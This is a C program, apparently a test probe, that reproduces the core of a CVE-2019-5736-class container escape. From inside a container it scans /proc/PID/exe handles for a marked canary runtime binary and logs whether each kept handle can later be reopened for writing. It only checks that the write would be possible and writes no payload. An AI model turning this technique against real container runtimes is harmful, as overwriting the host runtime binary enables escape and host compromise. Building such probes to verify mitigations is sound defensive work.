/* An attacker inside a container that holds CAP_SYS_PTRACE (CVE-2019-5736
 * class): for SECONDS it opens /proc/PID/exe of every other process it can
 * see and keeps the handles whose target contains MARKER (the canary copy
 * of the runtime's interpreter), then keeps trying to reopen each kept
 * handle for writing through /proc/self/fd, which succeeds once nothing
 * runs that file any more.
 *
 * usage: exe_hunter OUTFILE SECONDS MARKER
 * OUTFILE gets one line per event:
 *   READY                 scanning has begun
 *   SEEN <pid> <target>   /proc/<pid>/exe could be opened (each pid is tried until
 *                         this succeeds once)
 *   HELD <target>         a handle whose target contains MARKER is kept
 *   WRITABLE <target>     such a handle was reopened for writing
 *   DONE
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXPIDS 4096
#define MAXHELD 64

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 2;
    FILE *out = fopen(argv[1], "w");
    if (!out)
        return 2;
    setvbuf(out, NULL, _IOLBF, 0);
    double end = now() + atof(argv[2]);
    const char *marker = argv[3];
    static char seen[MAXPIDS];
    int held[MAXHELD], writable[MAXHELD], nheld = 0;
    char target[4096], path[64];
    pid_t self = getpid();

    fprintf(out, "READY\n");
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || (pid < MAXPIDS && seen[pid]))
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(path, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            if (pid < MAXPIDS)
                seen[pid] = 1;
            fprintf(out, "SEEN %d %s\n", pid, target);
            if (strstr(target, marker) && nheld < MAXHELD) {
                fprintf(out, "HELD %s\n", target);
                writable[nheld] = 0;
                held[nheld++] = fd;
            } else {
                close(fd);
            }
        }
        if (d)
            closedir(d);
        for (int i = 0; i < nheld; i++) {
            if (writable[i])
                continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                readlink(path, target, sizeof target - 1);
                fprintf(out, "WRITABLE %s\n", target);
                writable[i] = 1;
                close(w);
            }
        }
    }
    fprintf(out, "DONE\n");
    return 0;
}
